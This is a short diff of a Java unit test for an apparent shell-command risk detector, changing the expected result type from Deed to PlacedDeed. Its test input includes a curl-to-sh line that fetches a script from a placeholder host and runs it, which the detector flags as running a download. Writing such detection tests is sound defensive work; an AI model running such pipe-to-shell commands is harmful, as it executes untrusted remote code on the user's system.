@@ -37,9 +37,9 @@ class CommandDeedsTest {
 
     @Test
     void namesTheLineAndTheCommand() {
-        List<Deed> deeds =
+        List<PlacedDeed> deeds =
                 DEEDS.of("set -e\ncat <<EOF\na\nb\nEOF\necho 'x\ny'\ncurl https://example.invalid/x \\\n | sh -s\n");
-        assertThat(deeds.getFirst()).isEqualTo(new Deed(CommandDeed.RUNS_DOWNLOAD, 9, "sh -s"));
+        assertThat(deeds.getFirst()).isEqualTo(new PlacedDeed(CommandDeed.RUNS_DOWNLOAD, 9, "sh -s"));
     }
 
     @Test
